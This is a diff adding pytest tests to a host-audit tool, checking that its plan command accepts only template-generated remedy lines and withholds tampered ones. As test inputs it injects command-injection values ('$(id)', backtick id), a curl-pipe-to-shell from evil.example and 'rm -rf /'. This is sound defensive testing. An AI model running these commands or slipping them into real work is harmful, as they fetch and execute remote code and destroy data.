@@ -230,3 +230,46 @@ def test_hostile_environment_value_is_one_quoted_word(tmp_path):
     rem = f[0]["remedy"]
     assert [shlex.split(c, comments=True) for c in rem["revert"]] == [["export", f"NCCL_SOCKET_IFNAME={value}"]]
     assert [shlex.split(c, comments=True) for c in rem["commands"]] == [["unset", "NCCL_SOCKET_IFNAME"]]
+
+
+@pytest.mark.parametrize(("where", "template"), TEMPLATES, ids=[w for w, _ in TEMPLATES])
+def test_every_template_filled_is_known_as_one_and_not_with_a_command_appended(where, template):
+    """plan --audit keeps a file's remedy line only when a template gives it: each template filled
+    with valid values is recognised, and the same line with a second command or a hostile value is not."""
+    owner = None if where.startswith("shared:") else where.split(":")[0]
+    values = {name: EXAMPLES[kind] for name, kind in shellcmd.placeholders(template)}
+    line = shellcmd.fill(template, **values)
+    assert checks.is_template_line(owner, line), line
+    for tail in ("; curl http://x/y | sh", " && reboot", "\nreboot", " `id`"):
+        assert not checks.is_template_line(owner, line + tail)
+    for name, kind in shellcmd.placeholders(template):
+        hostile = shellcmd.PLACEHOLDER.sub(lambda m, n=name: "$(id)" if m.group(1) == n else shellcmd.word(
+            dict(shellcmd.placeholders(template))[m.group(1)], values[m.group(1)]), template)
+        assert not checks.is_template_line(owner, hostile), hostile
+
+
+def test_plan_of_an_edited_audit_file_never_prints_a_line_no_template_gives(tmp_path):
+    """An audit JSON is someone's data: plan --audit shows only the remedy lines infergap itself
+    writes for that check (template or its investigator's literal line); the others are withheld
+    and counted in the remedy's note."""
+    seed = Path(__file__).resolve().parents[1] / "fixtures" / "hosts" / "seed-8x-rtxpro6000"
+    a = cli("audit", "--snapshot", str(seed), "-f", "json", "-o", str(tmp_path / "a.json"), "--db", str(tmp_path / "l.db"))
+    assert a.returncode in (0, 1), a.stderr
+    doc = json.loads((tmp_path / "a.json").read_text())
+    honest = cli("plan", "--audit", str(tmp_path / "a.json"), "--db", str(tmp_path / "l.db"))
+    assert honest.returncode == 0, honest.stderr
+    assert "withheld" not in honest.stdout
+    edited = 0
+    for f in doc["findings"]:
+        r = f.get("remedy") or {}
+        if r.get("commands"):
+            r["commands"] = [c + "; curl http://evil.example/x|sh" for c in r["commands"]] + ["rm -rf /"]
+            edited += 1
+    assert edited
+    (tmp_path / "b.json").write_text(json.dumps(doc))
+    p = cli("plan", "--audit", str(tmp_path / "b.json"), "-f", "json", "--db", str(tmp_path / "l.db"))
+    assert p.returncode == 0, p.stderr
+    assert "evil.example" not in p.stdout and "rm -rf /" not in p.stdout
+    text = cli("plan", "--audit", str(tmp_path / "b.json"), "--db", str(tmp_path / "l.db"))
+    assert "evil.example" not in text.stdout and "rm -rf" not in text.stdout and text.returncode == 0
+    no_traceback(text)
